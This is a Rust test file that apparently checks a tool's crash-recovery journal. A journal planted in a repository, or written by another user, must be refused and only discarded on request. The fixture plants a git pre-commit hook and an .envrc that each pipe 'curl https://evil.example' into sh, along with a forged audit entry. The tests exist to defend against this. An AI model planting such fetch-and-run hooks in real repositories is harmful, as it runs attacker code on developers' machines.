//! The journal of an interrupted write is finished only when openwork
//! wrote it: a journal shipped in a repository (or another user's, or one
//! sealed with a key since lost) is refused by the CLI and by the server,
//! changes nothing, and goes only when the user discards it.

use crate::support::cli::Ws;
use crate::support::serve::{Env, Server};
use serde_json::json;
use std::collections::BTreeMap;
use std::path::PathBuf;

/// A repository's attack: a git hook, an `.envrc`, a removed README, and a
/// forged audit entry, in the shape of a real journal (version 2, but
/// unsealed) and of the older, unsealed version 1.
fn planted(ws_id: &str, version: u32) -> String {
    json!({
        "version": version,
        "entry": {
            "id": "forged", "workspaceId": ws_id,
            "actor": {"type": "host", "clientId": "cli"},
            "action": "config.import", "target": "workspace",
            "summary": "Import", "timestamp": 1,
        },
        "files": [
            {"path": ".git/hooks/pre-commit", "after": "#!/bin/sh\ncurl https://evil.example | sh\n"},
            {"path": ".envrc", "after": "curl https://evil.example | sh\n"},
            {"path": "README.md", "after": null},
        ],
    })
    .to_string()
}

/// Every file but the lock file (which taking the lock may create).
fn files_but_lock(ws: &Ws) -> BTreeMap<PathBuf, Vec<u8>> {
    let mut files = ws.snapshot();
    files.remove(&PathBuf::from(".opencode/openwork/.lock"));
    files
}

fn repository() -> Ws {
    let ws = Ws::new();
    ws.write(
        "opencode.jsonc",
        "{\n  // mine\n  \"plugin\": [\"base\"]\n}\n",
    );
    ws.write("README.md", "read me\n");
    ws.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
    ws
}

#[test]
fn a_planted_journal_is_refused_by_every_writer_until_discarded() {
    for version in [2, 1] {
        let ws = repository();
        let id = ws.run(&["--json", "export"]).ok().json()["workspaceId"]
            .as_str()
            .expect("id")
            .to_string();
        ws.write(".opencode/openwork/journal.json", &planted(&id, version));
        let before = files_but_lock(&ws);

        // The CLI: the write fails, naming the journal and the command.
        let out = ws.run(&["plugins", "add", "extra"]);
        assert_eq!(out.code, 1, "{}", out.stderr);
        assert!(
            out.stderr.contains(".opencode/openwork/journal.json"),
            "{}",
            out.stderr
        );
        assert!(
            out.stderr.contains("openwork journal discard"),
            "{}",
            out.stderr
        );
        assert_eq!(files_but_lock(&ws), before, "the CLI changed nothing");

        // The server in manual mode: at boot, and on a write the host allows.
        let state = ws.state_dir();
        let s = Server::start_with(
            Env::new(),
            &[ws.path()],
            &[],
            &[("OPENWORK_STATE_DIR", state.to_str().expect("utf-8"))],
        );
        let log = s.stderr_with("journal.json");
        assert!(log.contains("openwork journal discard"), "{log}");
        let path = format!("/workspace/{}/plugins", s.ws_id(0));
        let body = json!({"spec": "remote"});
        let (resp, ()) = tokio_run(async {
            let write = s.post(&path, &body);
            let allow = async {
                let pending = s.wait_pending(1).await;
                let id = pending[0]["id"].as_str().expect("id").to_string();
                assert_eq!(s.reply(&id, "allow").await.status, 200);
            };
            tokio::join!(write, allow)
        });
        assert_eq!(resp.status, 409, "{resp:?}");
        assert!(resp.text.contains("openwork journal discard"), "{resp:?}");
        assert!(
            !resp.text.contains(&*ws.path().to_string_lossy()),
            "{resp:?}"
        );
        drop(s);
        assert_eq!(files_but_lock(&ws), before, "the server changed nothing");
        assert!(ws.audit().is_empty(), "no forged audit entry");

        // Discarded on request: only the journal goes, and writes resume.
        let out = ws.run(&["journal", "discard"]).ok();
        assert!(out.stdout.contains("did not write"), "{}", out.stdout);
        let mut expected = before.clone();
        expected.remove(&PathBuf::from(".opencode/openwork/journal.json"));
        assert_eq!(files_but_lock(&ws), expected);
        let again = ws.run(&["--json", "journal", "discard"]).ok();
        assert_eq!(again.json()["discarded"], false);
        ws.run(&["plugins", "add", "extra"]).ok();
        assert!(ws.read("opencode.jsonc").contains("extra"));
        assert!(!ws.file(".envrc").exists());
        assert!(!ws.file(".git/hooks/pre-commit").exists());
        assert!(ws.file("README.md").exists());
    }
}

/// A journal this user's openwork wrote is still finished — and said so on
/// stderr — while another user's (another state folder, another key) is
/// refused.
#[test]
fn only_this_users_journal_is_finished_and_each_recovery_is_logged() {
    let doc = json!({
        "skills": [
            {"name": "alpha", "description": "First", "content": "# Alpha"},
            {"name": "beta", "description": "Second", "content": "# Beta"},
        ],
    });
    for (finisher_is_owner, expect_code) in [(true, 0), (false, 1)] {
        let ws = repository();
        let doc_file = ws.home.path().join("doc.json");
        std::fs::write(&doc_file, doc.to_string()).expect("write doc");
        let crashed = ws
            .cmd()
            .env("OPENWORK_TEST_CRASH_AFTER_FILES", "1")
            .args(["-q", "import"])
            .arg(&doc_file)
            .output()
            .expect("run");
        assert!(!crashed.status.success());
        assert!(ws.file(".opencode/openwork/journal.json").exists());
        let before = files_but_lock(&ws);
        let mut cmd = ws.cmd();
        if !finisher_is_owner {
            cmd.env("OPENWORK_STATE_DIR", ws.home.path().join("another-user"));
        }
        let out = cmd.args(["plugins", "add", "extra"]).output().expect("run");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(expect_code), "{stderr}");
        if finisher_is_owner {
            assert!(
                stderr.contains("warning: finished a write a crash interrupted"),
                "{stderr}"
            );
            assert!(ws.file(".opencode/skills/beta/SKILL.md").exists());
            assert!(!ws.file(".opencode/openwork/journal.json").exists());
        } else {
            assert!(
                stderr.contains("not written by openwork for this user"),
                "{stderr}"
            );
            assert_eq!(files_but_lock(&ws), before);
        }
    }
}

/// A temporary of the journal that a writer killed mid-write left is
/// removed when a server starts.
#[test]
fn a_restart_removes_the_journals_temporaries() {
    let ws = repository();
    ws.write(".opencode/openwork/.journal.json.Ab12Cd", "{\"half");
    let state = ws.state_dir();
    let _s = Server::start_with(
        Env::new(),
        &[ws.path()],
        &["--approval", "auto"],
        &[("OPENWORK_STATE_DIR", state.to_str().expect("utf-8"))],
    );
    assert!(!ws.file(".opencode/openwork/.journal.json.Ab12Cd").exists());
}

fn tokio_run<T>(f: impl Future<Output = T>) -> T {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime")
        .block_on(f)
}
